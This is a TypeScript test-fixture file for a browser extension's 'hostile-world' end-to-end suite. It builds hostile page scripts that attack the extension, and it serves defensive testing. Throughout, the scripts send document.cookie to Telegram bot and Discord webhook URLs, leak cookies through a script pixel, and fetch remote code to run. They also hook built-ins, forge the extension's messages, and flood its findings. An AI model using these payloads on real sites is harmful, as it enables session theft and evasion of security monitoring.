/**
 * Hostile page code for the hostile-world suite (tests/e2e/hostile-*.e2e.ts): pages that attack Saq itself
 * — replacing the functions its hooks sit on, taking pristine functions from fresh frames, imitating its
 * private channel, flooding it, throwing from getters it might touch — and then do what a helper does
 * (exfiltration, a cart burst, synthetic clicks), so a test can check that Saq still sees the helper.
 *
 * Every step is wrapped so a failure is logged in `window.__hostileLog` instead of thrown: the page must
 * have no uncaught errors of its own, so that any that appear are Saq's.
 */
import { HARD_CODED_PEER } from './main-world.ts';
import { SHOP_ORIGIN } from '../../shop/config.ts';
export const HELPER_CDN = 'helper-cdn.test';
/** Exfiltration endpoints; `tag` makes each attack's requests (and the verdicts about them) tell apart. */
export const telegramUrl = (tag: string): string => `https://api.telegram.org/bot1:${tag}/sendMessage`;
export const discordUrl = (tag: string): string => `https://discord.com/api/webhooks/1/${tag}`;

/** Where the attack gets its functions from. */
export type Realm =
  | 'page'
  | 'about-blank'
  | 'srcdoc'
  | 'sandboxed'
  // Frames reached by index (`window[n]`, which no hook sees), inserted by the rarer DOM routes:
  | 'replace-children'
  | 'range-insert'
  | 'shadow-html'
  | 'outer-html'
  | 'document-write'
  | 'srcdoc-by-index'
  // A same-origin popup (about:blank) opened by the page:
  | 'window-open'
  | 'document-open';

/** The frame the page added last, by index: not through `contentWindow`, which Saq hooks. */
const LAST_FRAME = 'window[window.length - 1]';

/** Shared prelude: the log and a `step(name, fn)` that never throws. */
const PRELUDE = `window.__hostileLog = window.__hostileLog || [];
  const step = (name, fn) => { try { const r = fn(); if (r && typeof r.catch === 'function') r.catch((e) => window.__hostileLog.push(name + ': ' + e)); } catch (e) { window.__hostileLog.push(name + ': ' + e); } };`;

/** Expression (in an async function) for the window whose functions the attack uses. */
function realmExpression(realm: Realm): string {
  switch (realm) {
    case 'page':
      return 'window';
    case 'about-blank':
      return `(() => { const f = document.createElement('iframe'); f.style.display = 'none'; document.body.appendChild(f); return f.contentWindow; })()`;
    case 'srcdoc':
      return `await new Promise((resolve) => { const f = document.createElement('iframe'); f.style.display = 'none'; f.srcdoc = '<p>clean</p>'; f.onload = () => resolve(f.contentWindow); document.body.appendChild(f); })`;
    case 'sandboxed':
      return `await new Promise((resolve) => { const f = document.createElement('iframe'); f.style.display = 'none'; f.setAttribute('sandbox', 'allow-same-origin'); f.onload = () => resolve(f.contentWindow); document.body.appendChild(f); })`;
    case 'replace-children':
      return `(() => { const box = document.createElement('div'); box.style.display = 'none'; document.body.appendChild(box); box.replaceChildren(document.createElement('iframe')); return ${LAST_FRAME}; })()`;
    case 'range-insert':
      return `(() => { const box = document.createElement('div'); box.style.display = 'none'; document.body.appendChild(box); const range = document.createRange(); range.selectNodeContents(box); range.insertNode(document.createElement('iframe')); return ${LAST_FRAME}; })()`;
    case 'shadow-html':
      return `(() => { const host = document.createElement('div'); document.body.appendChild(host); host.attachShadow({ mode: 'closed' }).innerHTML = '<iframe style="display:none"></iframe>'; return ${LAST_FRAME}; })()`;
    case 'outer-html':
      return `(() => { const box = document.createElement('div'); box.style.display = 'none'; document.body.appendChild(box); box.appendChild(document.createElement('span')).outerHTML = '<iframe></iframe>'; return ${LAST_FRAME}; })()`;
    case 'document-write':
      // The helper runs as the parser reaches it (a parser-blocking script), so the written frame is created at once.
      return `(() => { document.write('<iframe style="display:none"></iframe>'); return ${LAST_FRAME}; })()`;
    case 'srcdoc-by-index':
      return `await new Promise((resolve) => { const f = document.createElement('iframe'); f.style.display = 'none'; f.srcdoc = '<p>clean</p>'; f.onload = () => resolve(${LAST_FRAME}); document.body.appendChild(f); })`;
    case 'window-open':
      return `window.open('about:blank', '_blank', 'popup,width=200,height=200')`;
    case 'document-open':
      return `document.open('about:blank', '_blank', 'popup,width=200,height=200')`;
  }
}

/**
 * The cart address as the helper writes it. A popup's fetch resolves a relative URL against its own
 * document, and Firefox gives an about:blank popup no base of its opener's: the helper writes it in full.
 */
const cartUrlFrom = (realm: Realm): string =>
  realm === 'window-open' || realm === 'document-open' ? `${SHOP_ORIGIN}/api/cart/reserve` : '/api/cart/reserve';

/**
 * The helper's work, with functions taken from `realm`: cookies to a Telegram bot by fetch and to a Discord
 * webhook by XHR, eight add-to-cart reservations in a burst, and synthetic clicks on the buy button by
 * `click()` and by `dispatchEvent`. Sets `window.__attackDone[tag]` when it has run.
 */
export function helperAttack(realm: Realm, tag: string): string {
  return `(async () => {
  ${PRELUDE}
  const w = ${realmExpression(realm)};
  const fetchFn = w.fetch;
  const button = document.querySelector('[data-action="add-to-cart"]');
  step('fetch exfiltration', () => fetchFn.call(window, ${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: document.cookie || 'sid=?' }));
  step('xhr exfiltration', () => { const x = new w.XMLHttpRequest(); x.open('POST', ${JSON.stringify(discordUrl(tag))}); x.send(JSON.stringify({ content: document.cookie })); });
  const productId = document.querySelector('[data-role="buy-block"]')?.dataset.productId ?? 'p-102';
  for (let i = 0; i < 8; i++) {
    step('cart burst', () => fetchFn.call(window, ${JSON.stringify(cartUrlFrom(realm))}, { method: 'POST', credentials: 'same-origin', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ productId, qty: 2 }) }));
  }
  if (button) {
    for (let i = 0; i < 3; i++) step('click()', () => w.HTMLElement.prototype.click.call(button));
    for (let i = 0; i < 2; i++) step('dispatchEvent', () => w.EventTarget.prototype.dispatchEvent.call(button, new w.MouseEvent('click', { bubbles: true, cancelable: true })));
  }
  (window.__attackDone = window.__attackDone || {})[${JSON.stringify(tag)}] = true;
})();`;
}

/**
 * Page code that replaces the functions Saq hooks: `fetch`, `XMLHttpRequest.prototype.open/send`,
 * `EventTarget.prototype.addEventListener/dispatchEvent`, `HTMLElement.prototype.click` and
 * `Function.prototype.toString` — with wrappers that call through (what a monitoring library does), with
 * pristine natives from a fresh frame (the bypass), and a `toString` that lies ("[native code]" for all).
 */
export function replaceHooks(how: 'wrappers' | 'pristine'): string {
  const source =
    how === 'pristine'
      ? `(() => { const f = document.createElement('iframe'); f.style.display = 'none'; (document.body || document.documentElement).appendChild(f); return f.contentWindow; })()`
      : 'null';
  return `(() => {
  ${PRELUDE}
  const clean = ${source};
  const swap = (owner, key, cleanOwner) => step('replace ' + key, () => {
    const before = owner[key];
    owner[key] = cleanOwner ? cleanOwner[key] : function (...args) { return before.apply(this, args); };
  });
  swap(window, 'fetch', clean);
  swap(XMLHttpRequest.prototype, 'open', clean && clean.XMLHttpRequest.prototype);
  swap(XMLHttpRequest.prototype, 'send', clean && clean.XMLHttpRequest.prototype);
  swap(EventTarget.prototype, 'addEventListener', clean && clean.EventTarget.prototype);
  swap(EventTarget.prototype, 'dispatchEvent', clean && clean.EventTarget.prototype);
  swap(HTMLElement.prototype, 'click', clean && clean.HTMLElement.prototype);
  step('lying toString', () => {
    const native = Function.prototype.toString;
    Function.prototype.toString = function toString() { return typeof this === 'function' ? 'function ' + (this.name || '') + '() { [native code] }' : native.call(this); };
  });
  window.__hooksReplaced = ${JSON.stringify(how)};
})();`;
}

/** A script element for a page: inline code, or a script from the helper's CDN. */
export const inline = (code: string): string => `<script>${code}</script>`;
export const fromCdn = (name: string): string => `<script src="https://${HELPER_CDN}/${name}.js"></script>`;

/** Marks every forged finding, so a test can prove none of them reached a verdict. */
export const FORGED = 'FORGED-by-page';
const CHANNEL_HELLO = 'saq:channel-hello/v1';
const CHANNEL_ASK = 'saq:channel-ask/v1';
const CHANNEL_DOCUMENT = 'saq:document';

/** Findings and "all clear" messages a page forges, in the shapes Saq's channel and background use. */
const FORGED_MESSAGES = `[
    { t: 'finding', finding: { kind: 'exfiltration', actor: { type: 'script', url: 'https://evil.example/${FORGED}.js' }, evidence: { url: 'https://api.telegram.org/bot${FORGED}/sendMessage', via: 'fetch' }, at: Date.now() } },
    { t: 'finding', finding: { kind: 'automation-marker', actor: { type: 'automation' }, evidence: { marker: 'webdriver', name: '${FORGED}' }, at: Date.now() } },
    { t: 'finding', finding: { kind: 'checkout-tamper', actor: { type: 'script', url: 'https://evil.example/${FORGED}.js' }, evidence: { change: 'form-action', url: 'https://evil.example/${FORGED}' }, at: Date.now() } },
    { t: 'synthetic', eventType: 'click', at: performance.now(), actor: { type: 'page', url: location.href } },
    { t: 'hooked-insertions', keys: ['src:https://helper-cdn.test/${FORGED}.js'] },
    { t: 'verdict', severity: 'clean', ruleId: '${FORGED}' },
    { type: 'findings/cs-to-bg', findings: [], verdict: 'clean', note: '${FORGED}' },
  ]`;

/** Listens (from the top of the page) for Saq's hello, to prove the page never gets the real port. */
export const CATCH_HELLO = `window.__caughtPorts = 0;
window.addEventListener('message', (e) => { if (e.data && typeof e.data === 'object' && '${CHANNEL_HELLO}' in e.data) window.__caughtPorts += e.ports.length + 1; }, true);`;

/**
 * Page code imitating Saq's private channel: a second hello carrying its own port, then forged findings,
 * "clean" verdicts and relay messages on that port and straight to the window; a hello without a port;
 * and, where a page can reach it, `chrome.runtime.sendMessage` to Saq's id.
 */
export function spoofChannel(saqId: string): string {
  return `(() => {
  ${PRELUDE}
  const forged = ${FORGED_MESSAGES};
  step('second hello', () => {
    const channel = new MessageChannel();
    window.postMessage({ '${CHANNEL_HELLO}': true }, '*', [channel.port2]);
    for (const m of forged) channel.port1.postMessage(m);
  });
  step('forged window messages', () => { for (const m of forged) window.postMessage(m, '*'); });
  step('hello without a port', () => window.postMessage({ '${CHANNEL_HELLO}': true }, '*'));
  step('ask for a new hello', () => window.postMessage({ '${CHANNEL_ASK}': true }, '*'));
  step('runtime message', () => {
    const runtime = window.chrome && window.chrome.runtime;
    if (runtime && typeof runtime.sendMessage === 'function') {
      for (const m of forged) try { runtime.sendMessage(${JSON.stringify(saqId)}, m, () => void (runtime.lastError)); } catch (e) { /* no way in: expected */ }
    }
  });
  window.__spoofed = true;
})();`;
}

/**
 * Page code, first in <head>, that asks Saq's MAIN world for a new hello before the ISOLATED world has
 * answered the first (as the ISOLATED world asks when it starts late, naming its document as it does): the
 * MAIN world must not move its findings to a port nobody reads.
 */
export const EARLY_ASK = `window.postMessage({ '${CHANNEL_ASK}': performance.timeOrigin }, '*'); window.postMessage({ '${CHANNEL_ASK}': performance.timeOrigin }, '*');`;

/**
 * Page code, first in <head>, that posts a hello naming another document — the shape of Saq's own hello from
 * a frame's previous document, which the ISOLATED world drops unreported — with forged findings on its port,
 * while Saq's ISOLATED world is late (it has not taken a hello yet): the port must not be taken.
 */
export const OTHER_DOCUMENT_HELLO = `(() => {
  const forged = ${FORGED_MESSAGES};
  const channel = new MessageChannel();
  window.postMessage({ '${CHANNEL_HELLO}': '1:0.5', '${CHANNEL_DOCUMENT}': performance.timeOrigin - 400 }, '*', [channel.port2]);
  for (const m of forged) channel.port1.postMessage(m);
})();`;

/** Code compiled from a string by the helper, marked with `tag` (a dynamic-code finding only the MAIN world makes). */
export const codeFromString = (tag: string): string => `new Function('return 1 /* ${tag} */')();`;

/**
 * Page code, first in <head>, that replaces MessageEvent.prototype's `data` getter to read and rewrite what
 * Saq's ISOLATED world sends its MAIN world on their private port: the lane's secret type (kept in
 * `window.__stolenLane`) and the site profile, into which it writes the helper's CDN and the Telegram API
 * as shop origins — so that the MAIN world would take the helper's requests for the shop's own.
 */
export const DATA_GETTER_HIJACK = `(() => {
  const real = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get;
  Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, enumerable: true, get() {
    const data = real.call(this);
    if (data && typeof data === 'object' && data.t === 'lane') window.__stolenLane = data.type;
    if (data && typeof data === 'object' && data.t === 'profile' && data.profile) {
      const origins = ['https://${HELPER_CDN}', 'https://api.telegram.org', 'https://discord.com'];
      return { t: 'profile', profile: { ...data.profile, firstPartyOrigins: [...data.profile.firstPartyOrigins, ...origins], trustedOrigins: [...data.profile.trustedOrigins, ...origins] } };
    }
    return data;
  } });
})();`;

/**
 * Another site's page that opens the shop and posts the hello and forged findings into the shop's window
 * (cross-window postMessage needs no code in the shop), every 300 ms for a few seconds.
 */
export function openerSpoofPage(shopUrl: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>Free coins</title></head><body>
<script>
  const forged = ${FORGED_MESSAGES};
  window.__openShop = () => {
    const shop = window.open(${JSON.stringify(shopUrl)}, '_blank');
    let n = 0;
    const timer = setInterval(() => {
      try {
        const channel = new MessageChannel();
        shop.postMessage({ '${CHANNEL_HELLO}': true }, '*', [channel.port2]);
        for (const m of forged) { channel.port1.postMessage(m); shop.postMessage(m, '*'); }
      } catch (e) { /* the shop may still be loading */ }
      if (++n > 15) clearInterval(timer);
    }, 300);
    return true;
  };
</script>
</body></html>`;
}

/**
 * Page code (at the very top of the page) that booby-traps what an extension's page-world code might
 * read: getters that throw on navigator.webdriver and on the `src` of the page's scripts, a throwing
 * Error.prepareStackTrace and an Error.stackTraceLimit accessor that throws (V8 then captures no stack at
 * all), and an attempt on Event.prototype.isTrusted. `isTrusted` cannot be forged: it is an own,
 * non-configurable ([LegacyUnforgeable]) property of every event, so the prototype is never consulted and
 * redefining it on an event throws; the page logs whether it could (it cannot).
 */
export const THROWING_GETTERS = `(() => {
  ${PRELUDE}
  const boom = (what) => { throw new Error('booby trap: ' + what); };
  step('navigator.webdriver', () => Object.defineProperty(Navigator.prototype, 'webdriver', { get: () => boom('webdriver'), configurable: true }));
  step('script src', () => {
    const setter = Object.getOwnPropertyDescriptor(HTMLScriptElement.prototype, 'src').set;
    Object.defineProperty(HTMLScriptElement.prototype, 'src', { get: () => boom('src'), set(v) { setter.call(this, v); }, configurable: true });
  });
  step('prepareStackTrace', () => { Error.prepareStackTrace = () => boom('prepareStackTrace'); });
  step('stackTraceLimit', () => Object.defineProperty(Error, 'stackTraceLimit', { get: () => boom('stackTraceLimit'), set: () => boom('stackTraceLimit'), configurable: true }));
  try { Object.defineProperty(Event.prototype, 'isTrusted', { get: () => true, configurable: true }); } catch (e) { /* some engines refuse: fine */ }
  try { const e = new Event('x'); Object.defineProperty(e, 'isTrusted', { value: true }); window.__isTrustedForged = true; } catch (e) { window.__isTrustedForged = false; }
  window.__trapsSet = true;
})();`;

/**
 * Page code that makes every error's `stack` name the shop's own script (in both engines' formats), so a
 * stack-based attribution would credit the helper's acts to the shop. Firefox keeps `stack` as an accessor
 * on Error.prototype, so this replaces what a careless reader sees; V8 gives each error its own accessor.
 */
export const LYING_STACK = `(() => {
  ${PRELUDE}
  const shop = 'https://kazcoins.nationalbank.kz/static/app.js:1:1';
  step('lying stack', () => Object.defineProperty(Error.prototype, 'stack', { get: () => 'Error\\n    at ' + shop + '\\nrun@' + shop + '\\n', set() {}, configurable: true }));
  window.__stackLies = true;
})();`;

/**
 * Page code that rewrites what a careless reader gets out of a stack with the String and Array methods
 * every script shares: split() turns the helper's host into the shop's in any stack-looking text, and
 * Array.prototype.find() never returns a frame of the helper's. A stack parser that used them would credit
 * the helper's acts to the shop.
 */
export const LYING_STRINGS = `(() => {
  ${PRELUDE}
  const helper = '${HELPER_CDN}';
  step('lying split', () => {
    const split = String.prototype.split;
    String.prototype.split = function (separator, limit) {
      const text = String(this);
      const stack = text.includes('\\n') && (text.includes(' at ') || text.includes('@'));
      return split.call(stack ? text.replaceAll(helper, 'kazcoins.nationalbank.kz') : text, separator, limit);
    };
  });
  step('lying find', () => {
    const find = Array.prototype.find;
    Array.prototype.find = function (test, self) {
      const found = find.call(this, test, self);
      return found && typeof found === 'object' && String(found.url).includes(helper) ? undefined : found;
    };
  });
  window.__stringsLie = true;
})();`;

/**
 * JSON rewritten to name the shop as the author of whatever Saq might serialise: an `Object.prototype.toJSON`
 * that turns any actor-shaped object into the shop page, and a `JSON.stringify` that does the same to an
 * announcement of a synthetic click. The MAIN world sends its announcements as JSON text over the lane.
 */
export const LYING_JSON = `(() => {
  ${PRELUDE}
  const shop = { type: 'page', url: location.href };
  step('lying toJSON', () => {
    Object.defineProperty(Object.prototype, 'toJSON', {
      configurable: true,
      writable: true,
      value: function () { return this && typeof this === 'object' && 'type' in this && 'url' in this ? shop : this; },
    });
  });
  step('lying stringify', () => {
    const stringify = JSON.stringify;
    JSON.stringify = function (value, ...rest) {
      return stringify.call(this, value && typeof value === 'object' && value.t === 'synthetic' ? { ...value, actor: shop } : value, ...rest);
    };
  });
  window.__jsonLies = true;
})();`;

/**
 * Page code that rewrites the built-in collection methods every script shares, aimed at what an extension's
 * page-world code keeps in them (Saq is open source: an attacker knows its shapes): Array.prototype.push
 * drops anything shaped like a message to the ISOLATED world, Map.prototype.get answers "seen 10,000
 * times" for a per-task flood counter's keys, Set.prototype.has calls anything naming the helper "already
 * reported", and WeakMap.prototype.get says every inline script was the shop's. Code that called them on
 * its own objects would go blind, or credit the helper's acts to the shop.
 */
export const LYING_COLLECTIONS = `(() => {
  ${PRELUDE}
  const saqShaped = (v) => v !== null && typeof v === 'object' && (v.t === 'finding' || v.t === 'synthetic' || v.t === 'hooked-insertions');
  step('lying push', () => {
    const push = Array.prototype.push;
    Array.prototype.push = function (...items) { return push.apply(this, items.filter((item) => !saqShaped(item))); };
  });
  step('lying Map', () => {
    const get = Map.prototype.get;
    Map.prototype.get = function (key) { return typeof key === 'string' && /^[a-z-]+\\|/.test(key) ? 10000 : get.call(this, key); };
  });
  step('lying Set', () => {
    const has = Set.prototype.has;
    Set.prototype.has = function (key) { return typeof key === 'string' && key.includes('${HELPER_CDN}') ? true : has.call(this, key); };
  });
  step('lying WeakMap', () => {
    const get = WeakMap.prototype.get;
    WeakMap.prototype.get = function (key) {
      const value = get.call(this, key);
      return value && typeof value === 'object' && 'page' in value && 'text' in value ? { ...value, page: true } : value;
    };
  });
  window.__collectionsLie = true;
})();`;

/**
 * Page code that puts accessors on `Array.prototype[0…63]`: the setter stores every value on the array
 * itself (so the page's own arrays work) except a line of a call stack that names the helper's host or
 * anything shaped like a message to the ISOLATED world, which it swallows. An extension that fills its own
 * arrays by assignment (`list[list.length] = line`) would parse the helper out of its stacks and credit its
 * acts to the shop, or drop its findings.
 */
export const LYING_INDEX_SETTERS = `(() => {
  ${PRELUDE}
  const saqShaped = (v) => v !== null && typeof v === 'object' && (v.t === 'finding' || v.t === 'synthetic' || v.t === 'hooked-insertions');
  const swallowed = (v) => (typeof v === 'string' && v.includes('${HELPER_CDN}')) || (v !== null && typeof v === 'object' && typeof v.url === 'string' && v.url.includes('${HELPER_CDN}')) || saqShaped(v);
  step('lying index setters', () => {
    for (let i = 0; i < 64; i++)
      Object.defineProperty(Array.prototype, i, {
        configurable: true,
        get() { return undefined; },
        set(value) { if (!swallowed(value)) Object.defineProperty(this, i, { value, writable: true, enumerable: true, configurable: true }); },
      });
  });
  window.__indexSettersLie = true;
})();`;

/**
 * A helper that traps the built-ins Saq's page-world code could call only while it acts, so the page's own
 * code never meets the traps: Array.prototype map/forEach/slice/includes/every, String.prototype
 * slice/includes/trim/toUpperCase/toLowerCase/split and the String and Number globals throw, and the array
 * iterator yields nothing. Under the traps it sends the cookie to a Telegram bot by fetch and to a Discord
 * webhook by XHR, inserts a script pixel, runs a string timer and makes a same-origin frame (Saq hooks the
 * frame's realm as the helper reaches it); once they are lifted it inserts a script with the frame's own
 * appendChild. An extension whose hooks call those built-ins throws inside them and loses each act; one
 * whose frame hooks are installed by for…of hooks nothing in the frame.
 */
export function trappedBuiltinsAttack(tag: string): string {
  return `(() => {
  ${PRELUDE}
  const trap = function () { throw new Error('trapped by the page'); };
  const saved = [];
  const set = (owner, key, value) => {
    saved.push([owner, key, Object.getOwnPropertyDescriptor(owner, key)]);
    Object.defineProperty(owner, key, { value, writable: true, configurable: true });
  };
  const arm = () => {
    for (const key of ['map', 'forEach', 'slice', 'includes', 'every']) set(Array.prototype, key, trap);
    for (const key of ['slice', 'includes', 'trim', 'toUpperCase', 'toLowerCase', 'split']) set(String.prototype, key, trap);
    set(window, 'String', trap);
    set(window, 'Number', trap);
    set(Array.prototype, Symbol.iterator, function* () {}); // last: the loops above need it
  };
  // By index, last in first out: the traps are still set while this runs.
  const disarm = () => { for (let i = saved.length - 1; i >= 0; i--) Object.defineProperty(saved[i][0], saved[i][1], saved[i][2]); };
  const cookie = document.cookie || 'sid=?';
  let frame = null;
  arm();
  try {
    step('fetch exfiltration', () => fetch(${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: cookie }));
    step('xhr exfiltration', () => { const x = new XMLHttpRequest(); x.open('post', ${JSON.stringify(discordUrl(tag))}); x.send(cookie); });
    step('script pixel', () => { const s = document.createElement('script'); s.type = ' text/javascript '; s.src = 'https://${HELPER_CDN}/${tag}-pixel.js?c=' + encodeURIComponent(cookie); document.head.appendChild(s); });
    step('string timer', () => setTimeout('window.__' + ${JSON.stringify(tag.replace(/-/g, '_'))} + '_timer = true; /* ${tag} */', 0));
    step('frame', () => { const f = document.createElement('iframe'); f.style.display = 'none'; document.body.appendChild(f); frame = f.contentWindow; });
  } finally {
    disarm();
  }
  step('frame appendChild', () => { const s = document.createElement('script'); s.src = 'https://${HELPER_CDN}/${tag}-by-frame.js'; frame.Node.prototype.appendChild.call(document.head, s); });
  window.__trapsLifted = true;
})();`;
}

/** The text of the inline script the hash-forging helper inserts (its SHA-256 is what Saq must report). */
export const HASHED_INLINE = 'window.__hashedInlineRan = true; /* helper payload */';

/**
 * Page code that would forge the SHA-256 an extension reports for an inline script: Promise.prototype.then
 * hands every ArrayBuffer over zeroed and every 64-hex-digit text over as zeros, Promise.prototype.constructor
 * becomes a getter (so an `await` takes the slow path through that `then`), TextEncoder encodes nothing,
 * and the array iterator yields zeros for the bytes of a digest. Then the helper inserts an inline script.
 */
export const LYING_HASHES = `(() => {
  ${PRELUDE}
  const zeros = '0'.repeat(64);
  step('lying then', () => {
    const then = Promise.prototype.then;
    const forge = (value) => value instanceof ArrayBuffer ? new ArrayBuffer(value.byteLength) : typeof value === 'string' && /^[0-9a-f]{64}$/.test(value) ? zeros : value;
    Promise.prototype.then = function (ok, failed) { return then.call(this, typeof ok === 'function' ? (value) => ok(forge(value)) : ok, failed); };
  });
  step('lying constructor', () => {
    const Real = Promise;
    Object.defineProperty(Promise.prototype, 'constructor', { configurable: true, get: () => function Lying(executor) { return new Real(executor); } });
  });
  step('lying TextEncoder', () => { const Real = TextEncoder; window.TextEncoder = class extends Real { encode() { return new Uint8Array(0); } }; });
  step('lying iterator', () => {
    const proto = Object.getPrototypeOf([][Symbol.iterator]());
    const next = proto.next;
    proto.next = function () { const r = next.call(this); return !r.done && typeof r.value === 'number' && r.value < 256 ? { done: false, value: 0 } : r; };
  });
  window.__hashesLie = true;
})();`;

/**
 * Page code that denies extensions every promise reaction: Promise.prototype.constructor becomes a getter
 * that throws when an extension's code is on the stack (`then` asks for it to make the derived promise) and
 * answers the page's own code truly. Then the helper does four things Saq knows only once a promise settles:
 * an inline script (its SHA-256), code it fetched and read as text then compiled (known to come from the
 * network), a cart request whose body asks for 50 coins (the body read from Saq's copy), and a WebRTC peer
 * in an answer (the remote description, read once applied).
 */
export const THROWING_SPECIES = `(() => {
  ${PRELUDE}
  step('throwing species', () => {
    const Real = Promise;
    Object.defineProperty(Promise.prototype, 'constructor', { configurable: true, get() {
      if (/-extension:\\/\\//.test(new Error().stack)) throw new Error('no reactions for extensions');
      return Real;
    } });
  });
  window.__speciesThrows = true;
})();`;

/** The helper for THROWING_SPECIES (its network payload served from the helper's CDN as `<payloadTag>.js`). */
export function speciesHelper(payloadTag: string): string {
  return `${HASHED_INLINE_HELPER}
fetch('https://${HELPER_CDN}/${payloadTag}.js').then((r) => r.text()).then((code) => new Function(code)());
const productId = document.querySelector('[data-role="buy-block"]')?.dataset.productId ?? 'p-102';
fetch('/api/cart/items', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ productId, qty: 50 }) });
(async () => {
  ${HARD_CODED_PEER}
  window.__speciesPeer = true;
})();`;
}

export const HASHED_INLINE_HELPER = `setTimeout(() => {
  const script = document.createElement('script');
  script.textContent = ${JSON.stringify(HASHED_INLINE)};
  document.body.appendChild(script);
}, 300);`;

/**
 * A flood: 10,000 pieces of code compiled from strings (each one a dynamic-code finding) and 300 pixels to
 * 300 different addresses (each one a distinct exfiltration verdict, past the per-tab verdict cap), then,
 * three seconds later, the helper's real work — which must not be crowded out.
 */
export function floodThenAttack(tag: string): string {
  return `window.addEventListener('load', () => setTimeout(() => {
  ${PRELUDE}
  step('flood: dynamic code', () => { for (let i = 0; i < 10000; i++) new Function('return ' + i + ' /* flood */'); });
  step('flood: pixels', () => { for (let i = 0; i < 300; i++) new Image().src = 'https://evil.example/p' + i + '.gif'; });
  window.__flooded = true;
  setTimeout(() => { ${helperAttack('page', tag)} }, 3000);
}, 100));`;
}

/**
 * A quiet flood: 1,100 script elements (past the relay's 1,024 cap) for the shop's own (missing) files — findings no rule flags —
 * then, in the same task, the cookies to a Telegram bot. Saq's relay caps what it queues per flush;
 * the exfiltration must not be the finding that gets dropped.
 */
export function quietFloodThenExfiltrate(tag: string): string {
  return `window.addEventListener('load', () => setTimeout(() => {
  ${PRELUDE}
  step('quiet flood', () => { for (let i = 0; i < 1100; i++) { const s = document.createElement('script'); s.src = '/static/none-' + i + '.js'; document.head.appendChild(s); } });
  step('exfiltration', () => fetch(${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: document.cookie || 'sid=?' }));
  window.__flooded = true;
}, 100));`;
}

/**
 * Page code that fights Saq's in-page warning: removes every element Saq may have appended to <html>
 * (the warning's host) whenever one appears, for five seconds, while staying out of the shop's own <head>
 * and <body>. Saq's warning comes back and the removal is reported (tests/e2e/ui-warning.e2e.ts checks
 * the restore itself; here the point is that the helper's later acts are still seen).
 */
export const WARNING_REMOVER = `(() => {
  ${PRELUDE}
  const strip = () => step('remove warning', () => { for (const el of [...document.documentElement.children]) if (el !== document.head && el !== document.body) el.remove(); });
  const observer = new MutationObserver(strip);
  observer.observe(document.documentElement, { childList: true });
  strip();
  setTimeout(() => observer.disconnect(), 5000);
  window.__removing = true;
})();`;

/** Covers the whole viewport from the top layer: a modal <dialog>, or a popover, always above any z-index. */
export function topLayerCover(kind: 'dialog' | 'popover'): string {
  return kind === 'dialog'
    ? `(() => { const d = document.createElement('dialog'); d.style.cssText = 'width:100vw;height:100vh;max-width:none;max-height:none;margin:0;padding:0;border:0;background:#fff'; d.textContent = 'Всё в порядке'; document.body.append(d); d.showModal(); })();`
    : `(() => { const d = document.createElement('div'); d.setAttribute('popover', 'manual'); d.style.cssText = 'position:fixed;inset:0;width:100vw;height:100vh;margin:0;border:0;background:#fff'; d.textContent = 'Всё в порядке'; document.body.append(d); d.showPopover(); })();`;
}
